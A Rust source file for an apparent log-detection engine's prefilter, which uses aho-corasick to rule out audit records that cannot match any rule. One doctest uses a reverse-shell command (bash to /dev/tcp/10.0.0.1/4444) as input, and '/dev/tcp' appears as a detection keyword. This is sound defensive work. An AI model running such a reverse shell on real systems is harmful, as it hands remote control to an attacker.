//! The byte-level prefilter: proves that a record cannot match any rule of a
//! profile before anything is parsed.
//!
//! A profile names keywords (ASCII case-insensitive). A record containing none
//! of them cannot match — unless JSON escapes hide one (`\u0064ocker`, `\/dev\/tcp`),
//! so a record with an escape that decodes to a character some keyword contains
//! is always read in full. Escapes of other characters (Go's `\u0026` for `&`,
//! common in Kubernetes audit URIs) do not defeat the filter.
//!
//! The record is lower-cased in 4 KiB chunks on the stack (overlapping by the
//! longest keyword) and searched case-sensitively, which lets aho-corasick use its
//! SIMD "Teddy" searcher; an ASCII-case-insensitive automaton cannot.

use alloc::string::String;
use alloc::vec::Vec;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use memchr::memmem;

const CHUNK: usize = 4096;
/// Keywords per searcher: aho-corasick's SIMD Teddy serves up to 64 patterns (beyond that it
/// falls back to a slower automaton), so larger lists are split.
const GROUP: usize = 64;

/// A compiled prefilter. Holds a scratch buffer, so it is not `Sync` (neither is an engine).
#[derive(Clone, Debug)]
pub struct Prefilter {
    scratch: core::cell::RefCell<Vec<u8>>,
    searchers: Vec<AhoCorasick>,
    /// Searched only when a marker is present: (markers, keyword searchers).
    gated: Option<(AhoCorasick, Vec<AhoCorasick>)>,
    longest: usize,
    /// Bytes that occur in some keyword (both cases), i.e. that an escape could hide.
    keyword_bytes: [bool; 128],
    slash: bool,
}

impl Prefilter {
    /// Builds a prefilter for `keywords` (non-empty, matched ASCII case-insensitively).
    pub fn new(keywords: &[String]) -> Result<Prefilter, String> {
        Prefilter::with_gated(keywords, &[], &[])
    }

    /// Builds a prefilter: `keywords` count in every record, `gated` keywords only in records
    /// that also contain one of `markers`.
    ///
    /// ```
    /// use cadet_core::prefilter::Prefilter;
    /// let p = Prefilter::with_gated(&["docker".into()], &["secrets".into()], &["k8s.io"]).unwrap();
    /// assert!(p.may_match(br#"{"apiVersion":"audit.k8s.io/v1","objectRef":{"resource":"secrets"}}"#));
    /// assert!(!p.may_match(br#"{"msg":"rotating secrets"}"#));
    /// ```
    pub fn with_gated(
        keywords: &[String],
        gated: &[String],
        markers: &[&str],
    ) -> Result<Prefilter, String> {
        let lower: Vec<String> = keywords.iter().map(|w| w.to_ascii_lowercase()).collect();
        let gated_lower: Vec<String> = gated.iter().map(|w| w.to_ascii_lowercase()).collect();
        let marker_lower: Vec<String> = markers.iter().map(|w| w.to_ascii_lowercase()).collect();
        let longest = lower
            .iter()
            .chain(&gated_lower)
            .chain(&marker_lower)
            .map(|w| w.len())
            .max()
            .unwrap_or(1);
        if longest >= CHUNK / 2 {
            return Err(alloc::format!(
                "prefilter keywords must be shorter than {} bytes",
                CHUNK / 2
            ));
        }
        let build = |words: &[String]| -> Result<Vec<AhoCorasick>, String> {
            words
                .chunks(GROUP)
                .map(|group| {
                    AhoCorasickBuilder::new()
                        .match_kind(MatchKind::LeftmostFirst)
                        .build(group)
                        .map_err(|e| alloc::format!("prefilter: {e}"))
                })
                .collect()
        };
        let searchers = build(&lower)?;
        let gated = if gated_lower.is_empty() || marker_lower.is_empty() {
            None
        } else {
            let marker_searcher = AhoCorasickBuilder::new()
                .match_kind(MatchKind::LeftmostFirst)
                .build(&marker_lower)
                .map_err(|e| alloc::format!("prefilter: {e}"))?;
            Some((marker_searcher, build(&gated_lower)?))
        };
        let mut keyword_bytes = [false; 128];
        for b in lower
            .iter()
            .chain(&gated_lower)
            .chain(&marker_lower)
            .flat_map(|w| w.bytes())
        {
            if b < 128 {
                keyword_bytes[b as usize] = true;
                keyword_bytes[b.to_ascii_uppercase() as usize] = true;
            } else {
                // Non-ASCII keyword bytes could be hidden by any \u escape.
                keyword_bytes = [true; 128];
            }
        }
        let slash = keyword_bytes[b'/' as usize];
        Ok(Prefilter {
            scratch: core::cell::RefCell::new(Vec::with_capacity(CHUNK)),
            searchers,
            gated,
            longest,
            keyword_bytes,
            slash,
        })
    }

    /// True when the record may match (contains a keyword, or an escape that could hide one).
    ///
    /// ```
    /// use cadet_core::prefilter::Prefilter;
    /// let p = Prefilter::new(&["docker".into(), "/dev/tcp".into()]).unwrap();
    /// assert!(p.may_match(br#"{"cmd":"DOCKER ps"}"#));
    /// assert!(p.may_match(br#"{"cmd":"\u0064ocker ps"}"#));
    /// assert!(p.may_match(br#"{"cmd":"bash -i >& \/dev\/tcp\/10.0.0.1\/4444"}"#));
    /// assert!(!p.may_match(br#"{"uri":"/apis/v1?a=1\u0026b=2"}"#));
    /// let ctr = Prefilter::new(&[" ctr".into()]).unwrap();
    /// assert!(ctr.may_match(b"ctr run x") && ctr.may_match(b"sudo ctr run x") && !ctr.may_match(b"objectRef"));
    /// ```
    pub fn may_match(&self, record: &[u8]) -> bool {
        // The record is searched as if a space preceded it, so that a keyword such as
        // " ctr" (a program name at a word start) also matches at the very beginning.
        let Ok(mut buf) = self.scratch.try_borrow_mut() else {
            return true;
        };
        let (mut start, mut lead) = (0, 1);
        loop {
            let end = (start + CHUNK - lead).min(record.len());
            buf.clear();
            if lead == 1 {
                buf.push(b' ');
            }
            buf.extend(record[start..end].iter().map(u8::to_ascii_lowercase));
            if self.searchers.iter().any(|s| s.is_match(&buf[..])) {
                return true;
            }
            if let Some((markers, gated)) = &self.gated {
                // A marker may sit in another chunk than the keyword: for records over one
                // chunk, any marker anywhere counts.
                let marked = markers.is_match(&buf[..])
                    || (record.len() > CHUNK - 1
                        && markers.is_match(&record.to_ascii_lowercase()[..]));
                if marked && gated.iter().any(|s| s.is_match(&buf[..])) {
                    return true;
                }
            }
            if end == record.len() {
                break;
            }
            start = end + 1 - self.longest;
            lead = 0;
        }
        self.escape_may_hide_keyword(record)
    }

    fn escape_may_hide_keyword(&self, record: &[u8]) -> bool {
        if memchr::memchr(b'\\', record).is_none() {
            return false;
        }
        if self.slash && memmem::find(record, b"\\/").is_some() {
            return true;
        }
        memmem::find_iter(record, b"\\u").any(|at| {
            let hex = record.get(at + 2..at + 6).unwrap_or(b"");
            let value = core::str::from_utf8(hex)
                .ok()
                .and_then(|h| u32::from_str_radix(h, 16).ok());
            match value {
                Some(v) if v < 128 => self.keyword_bytes[v as usize],
                Some(_) => false,
                None => true, // malformed escape: read the record and let the parser report it
            }
        })
    }
}
